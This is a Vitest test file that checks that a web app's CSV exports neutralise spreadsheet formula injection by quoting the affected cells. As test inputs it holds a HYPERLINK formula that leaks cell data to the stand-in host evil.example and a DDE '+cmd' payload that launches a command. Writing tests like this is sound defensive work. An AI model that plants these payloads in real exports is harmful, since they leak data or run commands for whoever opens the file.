// Spreadsheet formula injection (issue 10, item 1): no cell of an export starts a formula.
import { describe, expect, it } from 'vitest';
import { csvField, planCsv } from '../../src/lib/csv.ts';
import { reportCsv } from '../../src/lib/progress-export.ts';
import { input } from '../progress/fixture.ts';
import { cycle, plans, units } from './fixture.ts';

// Every character that makes Excel, LibreOffice or Google Sheets read a cell as a formula.
const LEADING = ['=', '+', '-', '@', '\t', '\r', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20'];

describe('CSV cells never start a formula', () => {
  it.each(LEADING.map((c) => [JSON.stringify(c), c]))('a value starting with %s is quoted text behind a single quote', (_name, c) => {
    const value = `${c}SUM(A1:A9)`;
    expect(csvField(value)).toBe(`"'${value}"`);
  });

  it('the attacks of the issue, kept readable', () => {
    expect(csvField('=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")')).toBe(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Bấm vào đây"")"`);
    expect(csvField("+cmd|' /C calc'!A0")).toBe(`"'+cmd|' /C calc'!A0"`);
    expect(csvField('-1+1')).toBe(`"'-1+1"`);
    expect(csvField('@SUM(1)')).toBe(`"'@SUM(1)"`);
  });

  it('plain numbers stay numbers, ordinary text stays as it was', () => {
    for (const n of ['45.5', '0', '2021', '10.001', '-3', '-0.5']) expect(csvField(n)).toBe(n);
    expect(csvField('Hội nghị - tập huấn')).toBe('Hội nghị - tập huấn');
    expect(csvField("Ngày 8/3 = ngày của phụ nữ")).toBe('Ngày 8/3 = ngày của phụ nữ');
    expect(csvField('a@b.vn')).toBe('a@b.vn');
  });

  it('reaches both exports: plan titles and report results', () => {
    const evil = '=HYPERLINK("http://evil.example","x")';
    const [first, ...rest] = plans;
    const plan = { ...first!, data: { ...first!.data, activities: first!.data.activities?.map((a) => ({ ...a, title: evil })) } };
    const planLines = planCsv(cycle, units, [plan, ...rest]).split('\r\n');
    expect(planLines[1]).toContain(`"'=HYPERLINK(""http://evil.example"",""x"")"`);
    expect(planLines[1]).toMatch(/,45\.5$/);

    const reports = input.reports.map((r) => ({ ...r, activities: r.activities?.map((a) => ({ ...a, result: '@SUM(1)' })) }));
    const reportLines = reportCsv({ ...input, reports }).split('\r\n');
    expect(reportLines[1]).toContain(`,"'@SUM(1)",`);
    expect(reportLines[1]).toContain(',4.2,');
  });
});
